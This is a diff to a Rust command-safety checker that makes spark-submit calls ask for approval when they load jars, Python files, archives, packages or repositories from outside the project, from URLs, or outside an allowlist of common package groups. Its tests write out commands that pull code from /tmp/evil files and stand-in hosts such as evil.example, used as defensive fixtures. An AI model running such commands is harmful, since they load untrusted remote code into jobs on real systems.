@@ -163,7 +163,33 @@ fn runs_here(shell: &mut Shell<'_>, call: &Call) -> Option<Feed> {
         return None;
     }
     let script = options.operands.first()?;
-    if !script.value.prefix().ends_with(".py") {
+    // Code that is loaded beside the script, or instead of one, is nobody's if it lies outside the project.
+    const LOADS: &[&str] =
+        &["jars", "py-files", "archives", "driver-class-path", "driver-library-path", "properties-file"];
+    let is_python = script.value.prefix().ends_with(".py");
+    let mut loaded: Vec<Arg> = Vec::new();
+    for given in options.values(LOADS).chain((!is_python).then_some(*script)) {
+        match given.known() {
+            Some(list) => loaded.extend(list.split([',']).map(|path| Arg::text(path, given.span))),
+            None => loaded.push(given.clone()),
+        }
+    }
+    for path in loaded.iter().filter(|path| !path.value.is_empty()) {
+        let is_own = !path.shown().contains("://") && shell.place(&path.value).scope == Scope::Project;
+        if !is_own {
+            shell.opaque(Unread::Script(path.shown().into_owned()), path.span);
+        }
+    }
+    // Packages of the projects around it are what everybody loads.
+    const USUAL: &[&str] =
+        &["org.apache.", "io.delta", "com.amazonaws", "com.databricks", "org.postgresql", "com.mysql"];
+    for list in options.values(&["packages", "repositories"]) {
+        let is_usual = |package: &str| USUAL.iter().any(|group| package.starts_with(group));
+        if !list.known().is_some_and(|list| list.split(',').all(is_usual)) {
+            shell.opaque(Unread::Script(list.shown().into_owned()), list.span);
+        }
+    }
+    if !is_python {
         return Some(call.output());
     }
     let mut argv = vec![Arg::text("python3", call.program.span)];
@@ -528,6 +554,28 @@ mod tests {
                 "dog monitor show 1",
                 "pd incident list",
                 "mimirtool rules list",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_job_that_runs_here_loads_only_what_is_the_projects_own() {
+        check(
+            Verdict::Ask,
+            &[
+                "spark-submit --master local --py-files /tmp/evil.py job.py",
+                "spark-submit --master local /tmp/evil.jar",
+                "spark-submit --master local --packages evil:x:1 job.py",
+                "spark-submit --master 'local[2]' --jars lib/a.jar,https://evil.example/b.jar job.py",
+                "spark-submit --master local --repositories http://evil.example job.py",
+            ],
+        );
+        check(
+            Verdict::Allow,
+            &[
+                "spark-submit --master local --py-files lib.zip job.py",
+                "spark-submit --master local --class app.Main target/app.jar",
+                "spark-submit --master local --packages org.apache.hadoop:hadoop-aws:3.3.4 job.py",
             ],
         );
     }
